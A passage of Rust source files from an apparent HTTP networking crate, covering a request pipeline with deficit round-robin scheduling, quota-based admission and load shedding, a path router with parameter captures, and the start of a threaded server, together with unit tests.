                            .try_send(shed_response("shutting down", self.config.retry_after_floor));
                    }
                }
            }
            st.order.clear();
            st.depth = 0;
        }
    }

    fn run_job(&self, shard_ix: usize, job: Job) {
        let shard = &self.shards[shard_ix];
        let busy = shard.busy.fetch_add(1, Ordering::Relaxed) + 1;
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::WorkerOccupancy {
                shard: shard_ix as u64,
                busy: busy as u64,
                workers: shard.workers as u64,
            },
        );
        if let Some(chaos) = &self.config.chaos {
            if chaos.roll(w5_chaos::Site::NetSlowWorker).is_some() {
                std::thread::sleep(Duration::from_millis(2));
            }
        }
        let Job { request, peer, class, resp_tx, injector, trace } = job;
        let response = {
            let _chaos = injector.map(w5_chaos::with_injector);
            let _trace = trace.as_ref().map(w5_obs::adopt_context);
            let handler = &self.handler;
            match std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                handler.handle(request, peer)
            })) {
                Ok(resp) => {
                    let bytes = resp.body.len() as u64;
                    match self.admission.charge(&class, ChargePoint::Response, bytes) {
                        Ok(()) => {
                            self.stats.served.fetch_add(1, Ordering::Relaxed);
                            resp
                        }
                        Err(denied) => {
                            // The body is withheld: the principal's budget
                            // could not cover exporting it.
                            self.stats.quota_denied.fetch_add(1, Ordering::Relaxed);
                            quota_response(&class, &denied)
                        }
                    }
                }
                Err(_) => {
                    self.stats.panics.fetch_add(1, Ordering::Relaxed);
                    Response::error(Status::INTERNAL_ERROR, "application error")
                }
            }
        };
        // Release the worker slot before handing the response over: the
        // send synchronizes with the submitter's recv, so once a caller
        // has its response the busy gauge no longer counts this job.
        shard.busy.fetch_sub(1, Ordering::Relaxed);
        let _ = resp_tx.try_send(response);
    }
}

impl Serve for Pipeline {
    fn serve(&self, request: Request, peer: SocketAddr) -> Response {
        self.submit(request, peer)
    }

    fn stop(&self) {
        Pipeline::stop(self)
    }
}

fn worker_loop(pipeline: &Pipeline, shard_ix: usize, wake: Receiver<()>) {
    loop {
        let job = {
            let mut st = pipeline.shards[shard_ix].state.lock();
            next_job(&mut st, pipeline.config.quantum)
        };
        match job {
            Some(job) => pipeline.run_job(shard_ix, job),
            None => {
                if pipeline.stopped.load(Ordering::SeqCst) {
                    return;
                }
                // Park with no locks held; the 10ms cap bounds the race
                // where a wake hint lands between the empty poll and the
                // recv (hint channels are capacity-1, so hints coalesce
                // rather than get lost).
                lockdep::blocking("net.pipeline.park");
                let _ = wake.recv_timeout(Duration::from_millis(10));
            }
        }
    }
}

/// Deficit round-robin dequeue. Each live class key appears exactly once
/// in `order`; a class with deficit left keeps the front of the rotation
/// (batch service up to `quantum`), an exhausted class is refreshed and
/// rotated to the back, a drained class is removed entirely (the class
/// table only holds live classes).
fn next_job(st: &mut ShardState, quantum: u64) -> Option<Job> {
    while let Some(key) = st.order.pop_front() {
        let Some(q) = st.queues.get_mut(&key) else { continue };
        if q.jobs.is_empty() {
            st.queues.remove(&key);
            continue;
        }
        if q.deficit == 0 {
            q.deficit = quantum;
            st.order.push_back(key);
            continue;
        }
        q.deficit -= 1;
        let job = q.jobs.pop_front().expect("checked non-empty");
        st.depth -= 1;
        if q.jobs.is_empty() {
            q.deficit = 0;
            st.queues.remove(&key);
        } else {
            st.order.push_front(key);
        }
        return Some(job);
    }
    None
}

/// Render a fault-report log line exactly like
/// `w5_platform::faultreport::FaultReport::to_log_line`, without pulling
/// the platform crate in as a dependency. `None` detail means redacted.
/// A platform-side test pins the two formats together.
pub fn fault_line(app: &str, kind: &str, detail: Option<&str>) -> String {
    match detail {
        Some(d) => format!("fault app={app} kind={kind} detail={d:?}"),
        None => format!("fault app={app} kind={kind} detail=<redacted>"),
    }
}

fn shed_response(reason: &str, retry_after: u64) -> Response {
    Response::error(
        Status::SERVICE_UNAVAILABLE,
        &fault_line("net/pipeline", "infrastructure", Some(reason)),
    )
    .with_header("retry-after", &retry_after.to_string())
}

fn quota_response(class: &PrincipalClass, denied: &ChargeDenied) -> Response {
    let app = format!("net/{}", class.key());
    let detail = if denied.redacted { None } else { Some(denied.detail.as_str()) };
    Response::error(Status::TOO_MANY_REQUESTS, &fault_line(&app, "quota-exceeded", detail))
        .with_header("retry-after", &denied.retry_after.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::mpsc;

    fn req(path: &str) -> Request {
        Request::get(path)
    }

    fn peer() -> SocketAddr {
        "127.0.0.1:9999".parse().unwrap()
    }

    fn echo_pipeline(config: PipelineConfig) -> Arc<Pipeline> {
        Pipeline::start(
            config,
            Arc::new(|r: Request, _| Response::text(format!("{} {}", r.method, r.path))),
            Arc::new(OpenAdmission),
        )
    }

    #[test]
    fn serves_and_stops() {
        let p = echo_pipeline(PipelineConfig::default());
        let resp = p.submit(req("/hello"), peer());
        assert_eq!(resp.status, Status::OK);
        assert_eq!(String::from_utf8_lossy(&resp.body), "GET /hello");
        assert_eq!(p.stats.snapshot().served, 1);
        p.stop();
        // After stop, submits shed instead of hanging.
        let resp = p.submit(req("/late"), peer());
        assert_eq!(resp.status, Status::SERVICE_UNAVAILABLE);
        assert!(resp.header("retry-after").is_some());
        p.stop(); // idempotent
    }

    #[test]
    fn full_class_queue_sheds_with_retry_after_from_own_depth() {
        // One worker, parked: the queue fills deterministically.
        let (tx, rx) = mpsc::channel::<()>();
        let rx = Mutex::new("test.fixture", rx);
        let p = Pipeline::start(
            PipelineConfig {
                workers: 1,
                shards: 1,
                queue_depth: 2,
                response_timeout: Duration::from_secs(10),
                ..PipelineConfig::default()
            },
            Arc::new(move |_r: Request, _| {
                let _ = rx.lock().recv();
                Response::text("ok")
            }),
            Arc::new(OpenAdmission),
        );
        // Fill deterministically: park the worker on the first request,
        // then queue exactly queue_depth more.
        let mut submits = Vec::new();
        {
            let ps = Arc::clone(&p);
            submits.push(std::thread::spawn(move || ps.submit(req("/0"), peer())));
        }
        for _ in 0..2000 {
            if p.busy_workers() == 1 {
                break;
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        assert_eq!(p.busy_workers(), 1, "worker never picked up the parked request");
        for i in 1..3 {
            let ps = Arc::clone(&p);
            let path = format!("/{i}");
            submits.push(std::thread::spawn(move || ps.submit(req(&path), peer())));
            for _ in 0..2000 {
                if p.queue_depth() == i {
                    break;
                }
                std::thread::sleep(Duration::from_millis(1));
            }
        }
        assert_eq!(p.queue_depth(), 2, "queue never saturated");
        let resp = p.submit(req("/overflow"), peer());
        assert_eq!(resp.status, Status::SERVICE_UNAVAILABLE);
        let retry: u64 = resp.header("retry-after").unwrap().parse().unwrap();
        // floor 1 + depth 2 / 1 worker = 3.
        assert_eq!(retry, 3);
        assert_eq!(p.stats.snapshot().shed, 1);
        // Release the parked handler; everything queued completes.
        for _ in 0..3 {
            tx.send(()).unwrap();
        }
        for s in submits {
            assert_eq!(s.join().unwrap().status, Status::OK);
        }
        p.stop();
    }

    #[test]
    fn deficit_round_robin_interleaves_classes() {
        // Single parked worker; flood class A, then add one B request.
        // With quantum 2, B must run after at most 2 more A's, not after
        // all of them.
        let (tx, rx) = mpsc::channel::<()>();
        let rx = Mutex::new("test.fixture", rx);
        let order = Arc::new(Mutex::new("test.fixture", Vec::<String>::new()));
        let order_h = Arc::clone(&order);
        let p = Pipeline::start(
            PipelineConfig {
                workers: 1,
                shards: 1,
                quantum: 2,
                queue_depth: 64,
                response_timeout: Duration::from_secs(10),
                ..PipelineConfig::default()
            },
            Arc::new(move |r: Request, _| {
                let _ = rx.lock().recv();
                order_h.lock().push(r.path.clone());
                Response::text("ok")
            }),
            Arc::new(TestAdmission),
        );
        // Park the worker on a warm-up request so enqueue order is ours.
        let warm = {
            let p = Arc::clone(&p);
            std::thread::spawn(move || p.submit(req("/warm"), peer()))
        };
        for _ in 0..2000 {
            if p.busy_workers() == 1 {
                break;
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        let mut waiters = Vec::new();
        for i in 0..6 {
            let ps = Arc::clone(&p);
            let path = format!("/a/{i}");
            waiters.push(std::thread::spawn(move || ps.submit(req(&path), peer())));
            for _ in 0..2000 {
                if p.queue_depth() == i + 1 {
                    break;
                }
                std::thread::sleep(Duration::from_millis(1));
            }
        }
        {
            let p = Arc::clone(&p);
            waiters.push(std::thread::spawn(move || p.submit(req("/b/0"), peer())));
        }
        for _ in 0..2000 {
            if p.queue_depth() == 7 {
                break;
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        assert_eq!(p.queue_depth(), 7, "expected 6 A + 1 B queued");
        for _ in 0..8 {
            tx.send(()).unwrap();
        }
        for w in waiters {
            assert_eq!(w.join().unwrap().status, Status::OK);
        }
        assert_eq!(warm.join().unwrap().status, Status::OK);
        let served: Vec<String> = order.lock().clone();
        let b_pos = served.iter().position(|s| s == "/b/0").expect("B was served");
        // /warm + at most quantum(2) A's may precede B.
        assert!(
            b_pos <= 3,
            "DRR failed to interleave: B served at position {b_pos} in {served:?}"
        );
        p.stop();
    }

    /// Classifies by first path segment so tests control class placement.
    struct TestAdmission;

    impl Admission for TestAdmission {
        fn classify(&self, request: &Request, _peer: SocketAddr) -> PrincipalClass {
            let seg = request.path.split('/').nth(1).unwrap_or("");
            match seg {
                "" => PrincipalClass::Anonymous,
                s => PrincipalClass::Session(s.to_string()),
            }
        }

        fn charge(
            &self,
            _class: &PrincipalClass,
            _point: ChargePoint,
            _bytes: u64,
        ) -> Result<(), ChargeDenied> {
            Ok(())
        }
    }

    #[test]
    fn request_charge_denial_is_429_with_fault_body() {
        struct Broke;
        impl Admission for Broke {
            fn classify(&self, _r: &Request, _p: SocketAddr) -> PrincipalClass {
                PrincipalClass::App("dev/app".into())
            }
            fn charge(
                &self,
                _class: &PrincipalClass,
                point: ChargePoint,
                _bytes: u64,
            ) -> Result<(), ChargeDenied> {
                match point {
                    ChargePoint::Request => Err(ChargeDenied {
                        detail: "network quota exhausted".into(),
                        redacted: false,
                        retry_after: 7,
                    }),
                    ChargePoint::Response => Ok(()),
                }
            }
        }
        let p = Pipeline::start(
            PipelineConfig::default(),
            Arc::new(|_r: Request, _| Response::text("unreachable")),
            Arc::new(Broke),
        );
        let resp = p.submit(req("/x"), peer());
        assert_eq!(resp.status, Status::TOO_MANY_REQUESTS);
        assert_eq!(resp.header("retry-after"), Some("7"));
        let body = String::from_utf8_lossy(&resp.body).to_string();
        assert!(
            body.contains("fault app=net/app:dev/app kind=quota-exceeded"),
            "body: {body}"
        );
        assert!(body.contains("network quota exhausted"), "body: {body}");
        assert_eq!(p.stats.snapshot().quota_denied, 1);
        assert_eq!(p.stats.snapshot().admitted, 0, "denied request must not queue");
        p.stop();
    }

    #[test]
    fn response_charge_denial_withholds_body() {
        struct ResponseBroke;
        impl Admission for ResponseBroke {
            fn classify(&self, _r: &Request, _p: SocketAddr) -> PrincipalClass {
                PrincipalClass::Session("alice".into())
            }
            fn charge(
                &self,
                _class: &PrincipalClass,
                point: ChargePoint,
                _bytes: u64,
            ) -> Result<(), ChargeDenied> {
                match point {
                    ChargePoint::Request => Ok(()),
                    ChargePoint::Response => Err(ChargeDenied {
                        detail: "secret budget state".into(),
                        redacted: true,
                        retry_after: 2,
                    }),
                }
            }
        }
        let p = Pipeline::start(
            PipelineConfig::default(),
            Arc::new(|_r: Request, _| Response::text("the secret payload")),
            Arc::new(ResponseBroke),
        );
        let resp = p.submit(req("/x"), peer());
        assert_eq!(resp.status, Status::TOO_MANY_REQUESTS);
        let body = String::from_utf8_lossy(&resp.body).to_string();
        assert!(!body.contains("secret payload"), "body leaked: {body}");
        assert!(body.contains("detail=<redacted>"), "body: {body}");
        p.stop();
    }

    #[test]
    fn worker_survives_handler_panic_and_serves_next_request() {
        let p = Pipeline::start(
            PipelineConfig { workers: 1, shards: 1, ..PipelineConfig::default() },
            Arc::new(|r: Request, _| {
                if r.path == "/boom" {
                    panic!("handler exploded");
                }
                Response::text("fine")
            }),
            Arc::new(OpenAdmission),
        );
        let resp = p.submit(req("/boom"), peer());
        assert_eq!(resp.status, Status::INTERNAL_ERROR);
        assert_eq!(p.stats.snapshot().panics, 1);
        // The single worker must still be alive and unoccupied.
        assert_eq!(p.busy_workers(), 0, "worker slot leaked across a panic");
        let resp = p.submit(req("/next"), peer());
        assert_eq!(resp.status, Status::OK);
        assert_eq!(String::from_utf8_lossy(&resp.body), "fine");
        p.stop();
    }

    #[test]
    fn class_table_bound_sheds_new_classes_only() {
        let p = Pipeline::start(
            PipelineConfig { workers: 1, shards: 1, max_classes: 2, ..PipelineConfig::default() },
            Arc::new(|_r: Request, _| Response::text("ok")),
            Arc::new(TestAdmission),
        );
        // Saturating the class table requires the classes to be *live*
        // (queued), so park the worker first.
        // Simpler: drive serially — classes drain between submits, so the
        // table never fills and everything is served. This pins the
        // "table only holds live classes" behavior.
        for i in 0..8 {
            let resp = p.submit(req(&format!("/u{i}/x")), peer());
            assert_eq!(resp.status, Status::OK, "drained classes must not count");
        }
        assert_eq!(p.stats.snapshot().shed, 0);
        p.stop();
    }

    #[test]
    fn chaos_queue_full_forces_shed() {
        let injector = w5_chaos::Injector::new(
            w5_chaos::FaultPlan::new(77).with(w5_chaos::Site::NetQueueFull, 1.0),
        );
        let p = Pipeline::start(
            PipelineConfig { chaos: Some(injector), ..PipelineConfig::default() },
            Arc::new(|_r: Request, _| Response::text("ok")),
            Arc::new(OpenAdmission),
        );
        let resp = p.submit(req("/x"), peer());
        assert_eq!(resp.status, Status::SERVICE_UNAVAILABLE);
        assert!(resp.header("retry-after").is_some());
        assert_eq!(p.stats.snapshot().shed, 1);
        p.stop();
    }

    #[test]
    fn from_env_defaults_are_sane() {
        let c = PipelineConfig::from_env();
        assert!(c.workers >= 1);
        assert!(c.shards >= 1);
        assert!(c.queue_depth >= 1);
    }
}
