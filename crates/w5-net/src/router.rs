//! Path routing with `:param` captures.
//!
//! Routes look like `/app/:app/:action` or `/dev/:dev/module/:name`; the
//! platform's gateway maps matched routes to handlers. Matching is by
//! segments; literal segments win over captures when both could match
//! (registration order breaks remaining ties).

use crate::http::Method;
use std::collections::BTreeMap;

/// The result of a successful route match.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RouteMatch<T: Clone> {
    /// The value registered with the route.
    pub value: T,
    /// Captured `:param` segments.
    pub params: BTreeMap<String, String>,
}

#[derive(Clone, Debug)]
struct Route<T: Clone> {
    method: Method,
    segments: Vec<Seg>,
    value: T,
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum Seg {
    Literal(String),
    Param(String),
    /// `*rest` — capture the remainder of the path (must be last).
    Rest(String),
}

/// The full resolution verdict: distinguishes "no route at all" (404)
/// from "the path exists but not under that method" (405 + `Allow`).
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum RouteOutcome<T: Clone> {
    /// A route matched method and path.
    Found(RouteMatch<T>),
    /// Some route matches the path, but none under the requested method.
    /// Carries the sorted, deduplicated set of methods that *would* match —
    /// exactly what belongs in an `Allow` header.
    MethodNotAllowed(Vec<Method>),
    /// No registered pattern matches the path under any method.
    NotFound,
}

/// Render an `Allow` header value (`"GET, POST"`) from a method set.
pub fn allow_header(methods: &[Method]) -> String {
    methods.iter().map(|m| m.as_str()).collect::<Vec<_>>().join(", ")
}

/// A method+path router.
#[derive(Clone, Debug, Default)]
pub struct Router<T: Clone> {
    routes: Vec<Route<T>>,
}

impl<T: Clone> Router<T> {
    /// An empty router.
    pub fn new() -> Router<T> {
        Router { routes: Vec::new() }
    }

    /// Register a route pattern.
    ///
    /// # Panics
    /// Panics on malformed patterns (developer error, not peer input).
    pub fn add(&mut self, method: Method, pattern: &str, value: T) {
        assert!(pattern.starts_with('/'), "pattern must start with /");
        let segments: Vec<Seg> = pattern
            .split('/')
            .skip(1)
            .filter(|s| !s.is_empty())
            .map(|s| {
                if let Some(name) = s.strip_prefix(':') {
                    Seg::Param(name.to_string())
                } else if let Some(name) = s.strip_prefix('*') {
                    Seg::Rest(name.to_string())
                } else {
                    Seg::Literal(s.to_string())
                }
            })
            .collect();
        if let Some(pos) = segments.iter().position(|s| matches!(s, Seg::Rest(_))) {
            assert_eq!(pos, segments.len() - 1, "*rest must be the last segment");
        }
        self.routes.push(Route { method, segments, value });
    }

    /// Match a method and path. `None` collapses both miss modes; use
    /// [`Router::resolve`] when the caller wants to answer 405 with an
    /// `Allow` header instead of a blanket 404.
    pub fn find(&self, method: Method, path: &str) -> Option<RouteMatch<T>> {
        match self.resolve(method, path) {
            RouteOutcome::Found(m) => Some(m),
            _ => None,
        }
    }

    /// Match a method and path, reporting path-only matches separately.
    pub fn resolve(&self, method: Method, path: &str) -> RouteOutcome<T> {
        let parts: Vec<&str> = if path == "/" {
            Vec::new()
        } else {
            path.split('/').skip(1).collect()
        };
        let mut best: Option<(usize, RouteMatch<T>)> = None;
        let mut allowed: Vec<Method> = Vec::new();
        for route in &self.routes {
            if let Some((score, m)) = match_route(route, &parts) {
                if route.method != method {
                    allowed.push(route.method);
                    continue;
                }
                let better = match &best {
                    None => true,
                    Some((bs, _)) => score > *bs,
                };
                if better {
                    best = Some((score, m));
                }
            }
        }
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::RouteResolve { path: path.to_string(), matched: best.is_some() },
        );
        match best {
            Some((_, m)) => RouteOutcome::Found(m),
            None if !allowed.is_empty() => {
                allowed.sort_by_key(|m| m.as_str());
                allowed.dedup();
                RouteOutcome::MethodNotAllowed(allowed)
            }
            None => RouteOutcome::NotFound,
        }
    }

    /// Number of registered routes.
    pub fn len(&self) -> usize {
        self.routes.len()
    }

    /// True if no routes are registered.
    pub fn is_empty(&self) -> bool {
        self.routes.is_empty()
    }
}

/// Try to match; returns a specificity score (literal segments count 2,
/// params 1, rest 0) for tie-breaking.
fn match_route<T: Clone>(route: &Route<T>, parts: &[&str]) -> Option<(usize, RouteMatch<T>)> {
    let mut params = BTreeMap::new();
    let mut score = 0usize;
    let mut i = 0;
    for seg in &route.segments {
        match seg {
            Seg::Literal(lit) => {
                if parts.get(i) != Some(&lit.as_str()) {
                    return None;
                }
                score += 2;
                i += 1;
            }
            Seg::Param(name) => {
                let part = parts.get(i)?;
                if part.is_empty() {
                    return None;
                }
                params.insert(name.clone(), part.to_string());
                score += 1;
                i += 1;
            }
            Seg::Rest(name) => {
                params.insert(name.clone(), parts[i..].join("/"));
                i = parts.len();
            }
        }
    }
    if i != parts.len() {
        return None;
    }
    Some((score, RouteMatch { value: route.value.clone(), params }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_and_param_matching() {
        let mut r = Router::new();
        r.add(Method::Get, "/", "root");
        r.add(Method::Get, "/apps", "list");
        r.add(Method::Get, "/app/:name", "app");
        r.add(Method::Get, "/app/:name/files/*path", "files");
        r.add(Method::Post, "/app/:name", "app-post");

        assert_eq!(r.find(Method::Get, "/").unwrap().value, "root");
        assert_eq!(r.find(Method::Get, "/apps").unwrap().value, "list");
        let m = r.find(Method::Get, "/app/photo").unwrap();
        assert_eq!(m.value, "app");
        assert_eq!(m.params["name"], "photo");
        let m = r.find(Method::Get, "/app/photo/files/albums/cats/1.jpg").unwrap();
        assert_eq!(m.value, "files");
        assert_eq!(m.params["path"], "albums/cats/1.jpg");
        assert_eq!(r.find(Method::Post, "/app/photo").unwrap().value, "app-post");
        assert!(r.find(Method::Get, "/nope").is_none());
        assert!(r.find(Method::Delete, "/apps").is_none());
    }

    #[test]
    fn literals_beat_params() {
        let mut r = Router::new();
        r.add(Method::Get, "/app/:name", "param");
        r.add(Method::Get, "/app/admin", "literal");
        assert_eq!(r.find(Method::Get, "/app/admin").unwrap().value, "literal");
        assert_eq!(r.find(Method::Get, "/app/other").unwrap().value, "param");
    }

    #[test]
    fn empty_segment_does_not_match_param() {
        let mut r = Router::new();
        r.add(Method::Get, "/u/:user", "u");
        assert!(r.find(Method::Get, "/u/").is_none());
    }

    #[test]
    fn rest_can_be_empty() {
        let mut r = Router::new();
        r.add(Method::Get, "/files/*p", "f");
        let m = r.find(Method::Get, "/files").unwrap();
        assert_eq!(m.params["p"], "");
    }

    #[test]
    #[should_panic(expected = "last segment")]
    fn rest_must_be_last() {
        let mut r = Router::new();
        r.add(Method::Get, "/a/*rest/b", "bad");
    }

    #[test]
    fn method_mismatch_reports_allowed_methods() {
        let mut r = Router::new();
        r.add(Method::Get, "/app/:name", "get");
        r.add(Method::Post, "/app/:name", "post");
        r.add(Method::Get, "/apps", "list");

        // Path exists under other methods → MethodNotAllowed with the
        // sorted, deduplicated Allow set.
        match r.resolve(Method::Delete, "/app/photo") {
            RouteOutcome::MethodNotAllowed(allow) => {
                assert_eq!(allow, vec![Method::Get, Method::Post]);
                assert_eq!(allow_header(&allow), "GET, POST");
            }
            other => panic!("expected MethodNotAllowed, got {other:?}"),
        }
        // Unknown path → NotFound, not MethodNotAllowed.
        assert_eq!(r.resolve(Method::Get, "/nope"), RouteOutcome::NotFound);
        // Matching method still resolves.
        match r.resolve(Method::Post, "/app/photo") {
            RouteOutcome::Found(m) => assert_eq!(m.value, "post"),
            other => panic!("expected Found, got {other:?}"),
        }
        // `find` keeps its historical contract: both miss modes are None.
        assert!(r.find(Method::Delete, "/app/photo").is_none());
    }

    #[test]
    fn allow_set_dedupes_across_patterns() {
        let mut r = Router::new();
        // Two GET patterns can both match the same path; Allow must list
        // GET once.
        r.add(Method::Get, "/x/:a", 1);
        r.add(Method::Get, "/x/y", 2);
        r.add(Method::Put, "/x/:a", 3);
        match r.resolve(Method::Post, "/x/y") {
            RouteOutcome::MethodNotAllowed(allow) => {
                assert_eq!(allow, vec![Method::Get, Method::Put]);
            }
            other => panic!("expected MethodNotAllowed, got {other:?}"),
        }
    }

    #[test]
    fn len_and_empty() {
        let mut r: Router<u32> = Router::new();
        assert!(r.is_empty());
        r.add(Method::Get, "/x", 1);
        assert_eq!(r.len(), 1);
    }
}
