//! Threaded HTTP front end with keep-alive and graceful shutdown.
//!
//! One OS thread per connection parses and writes; the request itself is
//! executed by a pluggable [`Serve`] engine. [`Server`] runs the staged
//! [`Pipeline`](crate::pipeline::Pipeline) (bounded worker pools, per-class
//! queues); [`ReferenceServer`] keeps the seed's semantics — the handler
//! runs directly on the connection thread — as the baseline arm of
//! `w5_sim::netdiff`'s differential oracle. Shutdown flips an atomic flag
//! and unblocks the accept loop by connecting to itself — no busy-wait, no
//! platform-specific listener tricks.

use crate::http::{buf_reader, HttpError, Limits, Request, Response, Status};
use crate::pipeline::{fault_line, InlineServe, OpenAdmission, Pipeline, PipelineConfig, Serve};
use w5_sync::{lockdep, Mutex};
use std::io::Write;
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::Duration;

/// A request handler. Receives the parsed request and the peer address;
/// returns the response to send.
pub trait Handler: Send + Sync + 'static {
    /// Handle one request.
    fn handle(&self, request: Request, peer: SocketAddr) -> Response;
}

impl<F> Handler for F
where
    F: Fn(Request, SocketAddr) -> Response + Send + Sync + 'static,
{
    fn handle(&self, request: Request, peer: SocketAddr) -> Response {
        self(request, peer)
    }
}

/// Server tuning knobs.
#[derive(Clone, Debug)]
pub struct ServerConfig {
    /// Parser limits per request.
    pub limits: Limits,
    /// Maximum concurrent connections; excess connections receive 503.
    pub max_connections: usize,
    /// Per-connection read timeout.
    pub read_timeout: Duration,
    /// Maximum requests served on one keep-alive connection.
    pub max_requests_per_connection: usize,
}

impl Default for ServerConfig {
    fn default() -> Self {
        ServerConfig {
            limits: Limits::default(),
            max_connections: 256,
            read_timeout: Duration::from_secs(10),
            max_requests_per_connection: 1000,
        }
    }
}

/// A running server; dropping the handle does *not* stop it — call
/// [`ServerHandle::shutdown`].
pub struct ServerHandle {
    addr: SocketAddr,
    stop: Arc<AtomicBool>,
    accept_thread: Mutex<Option<JoinHandle<()>>>,
    active: Arc<AtomicUsize>,
    served: Arc<AtomicUsize>,
    engine: Arc<dyn Serve>,
}

impl ServerHandle {
    /// The bound address (useful with port 0).
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// Total requests served so far.
    pub fn requests_served(&self) -> usize {
        self.served.load(Ordering::Relaxed)
    }

    /// Connections currently being handled.
    pub fn active_connections(&self) -> usize {
        self.active.load(Ordering::Relaxed)
    }

    /// Stop accepting, wait for the accept loop to exit, then stop the
    /// engine (pipeline workers drain their queues first). In-flight
    /// connections finish their current request and close.
    pub fn shutdown(&self) {
        if self.stop.swap(true, Ordering::SeqCst) {
            return; // already stopped
        }
        // Unblock accept() with a wake-up connection.
        let _ = TcpStream::connect(self.addr);
        if let Some(h) = self.accept_thread.lock().take() {
            let _ = h.join();
        }
        self.engine.stop();
    }

    /// The engine serving requests (shared with the accept loop).
    pub fn engine(&self) -> Arc<dyn Serve> {
        Arc::clone(&self.engine)
    }
}

/// The server factory. [`Server::start`] serves through the staged
/// pipeline; use [`ReferenceServer::start`] for the seed's
/// handler-on-the-connection-thread semantics, or
/// [`Server::start_engine`] to supply a custom engine (e.g. a pipeline
/// with kernel-backed admission).
pub struct Server;

impl Server {
    /// Bind and serve on a background thread through a
    /// [`Pipeline`](crate::pipeline::Pipeline) configured from the
    /// environment (`W5_NET_WORKERS` etc.). `addr` may use port 0 to let
    /// the OS pick; read the effective address from the returned handle.
    pub fn start(
        addr: &str,
        config: ServerConfig,
        handler: Arc<dyn Handler>,
    ) -> std::io::Result<ServerHandle> {
        let engine = Pipeline::start(PipelineConfig::from_env(), handler, Arc::new(OpenAdmission));
        Server::start_engine(addr, config, engine)
    }

    /// Bind and serve through an explicit engine.
    pub fn start_engine(
        addr: &str,
        config: ServerConfig,
        engine: Arc<dyn Serve>,
    ) -> std::io::Result<ServerHandle> {
        let listener = TcpListener::bind(addr)?;
        let local = listener.local_addr()?;
        let stop = Arc::new(AtomicBool::new(false));
        let active = Arc::new(AtomicUsize::new(0));
        let served = Arc::new(AtomicUsize::new(0));

        let accept_stop = Arc::clone(&stop);
        let accept_active = Arc::clone(&active);
        let accept_served = Arc::clone(&served);
        let accept_engine = Arc::clone(&engine);
        let accept_thread = std::thread::Builder::new()
            .name("w5-http-accept".into())
            .spawn(move || {
                for conn in listener.incoming() {
                    if accept_stop.load(Ordering::SeqCst) {
                        break;
                    }
                    let stream = match conn {
                        Ok(s) => s,
                        Err(_) => continue,
                    };
                    if accept_active.load(Ordering::Relaxed) >= config.max_connections {
                        let _ = overloaded(stream);
                        continue;
                    }
                    let guard = ConnGuard::new(&accept_active);
                    let engine = Arc::clone(&accept_engine);
                    let config = config.clone();
                    let served = Arc::clone(&accept_served);
                    let stop = Arc::clone(&accept_stop);
                    // If the spawn fails the closure is dropped unrun, the
                    // guard releases the slot, and the counter stays
                    // balanced — an early leak here turned every later
                    // connection into a permanent 503.
                    let _ = std::thread::Builder::new()
                        .name("w5-http-conn".into())
                        .spawn(move || {
                            let _guard = guard;
                            let _ = serve_connection(stream, &config, &*engine, &served, &stop);
                        });
                }
            })?;

        Ok(ServerHandle {
            addr: local,
            stop,
            accept_thread: Mutex::new("net.accept", Some(accept_thread)),
            active,
            served,
            engine,
        })
    }
}

/// The seed server, preserved verbatim behind the [`Serve`] trait: the
/// handler runs directly on the connection thread, unbounded by any
/// worker pool. Baseline arm of the netdiff oracle and of the fairness
/// benchmark (`bench_net_json`).
pub struct ReferenceServer;

impl ReferenceServer {
    /// Bind and serve with thread-per-connection handler execution.
    pub fn start(
        addr: &str,
        config: ServerConfig,
        handler: Arc<dyn Handler>,
    ) -> std::io::Result<ServerHandle> {
        Server::start_engine(addr, config, Arc::new(InlineServe::new(handler)))
    }
}

/// An occupied connection slot. Incremented on accept; the `Drop` impl
/// releases it, so the count balances whether the connection thread runs
/// to completion or the spawn fails and the closure is dropped unrun.
struct ConnGuard(Arc<AtomicUsize>);

impl ConnGuard {
    fn new(active: &Arc<AtomicUsize>) -> ConnGuard {
        active.fetch_add(1, Ordering::Relaxed);
        ConnGuard(Arc::clone(active))
    }
}

impl Drop for ConnGuard {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::Relaxed);
    }
}

fn overloaded(mut stream: TcpStream) -> std::io::Result<()> {
    // Same shed contract as the pipeline's admission stage: a Retry-After
    // hint plus a fault-report body in the faultreport.rs log-line format.
    // The connection carries no labels yet, so the detail is never
    // redacted.
    let resp = Response::error(
        Status::SERVICE_UNAVAILABLE,
        &fault_line("net/server", "infrastructure", Some("server overloaded: connection limit reached")),
    )
    .with_header("retry-after", "1");
    let mut out = Vec::new();
    let _ = resp.write_to(&mut out, false);
    lockdep::blocking("net.socket.write");
    stream.write_all(&out)?;
    // Half of the rejected clients have already sent (part of) a request;
    // without an explicit shutdown they sit in their own read until their
    // timeout. Close both directions so they see EOF right after the 503.
    stream.shutdown(std::net::Shutdown::Both)
}

fn serve_connection(
    stream: TcpStream,
    config: &ServerConfig,
    engine: &dyn Serve,
    served: &AtomicUsize,
    stop: &AtomicBool,
) -> Result<(), HttpError> {
    let peer = stream.peer_addr().map_err(HttpError::Io)?;
    stream
        .set_read_timeout(Some(config.read_timeout))
        .map_err(HttpError::Io)?;
    stream.set_nodelay(true).ok();
    let mut write_half = stream.try_clone().map_err(HttpError::Io)?;
    let mut reader = buf_reader(stream);

    for _ in 0..config.max_requests_per_connection {
        if stop.load(Ordering::SeqCst) {
            break;
        }
        let request = match Request::read_from(&mut reader, &config.limits) {
            Ok(r) => r,
            Err(HttpError::UnexpectedEof) => break, // clean close
            Err(HttpError::Io(ref e))
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock
                        | std::io::ErrorKind::TimedOut
                        | std::io::ErrorKind::ConnectionReset
                ) =>
            {
                break;
            }
            Err(e) => {
                // Tell the peer what category of mistake it made and close.
                let status = match e {
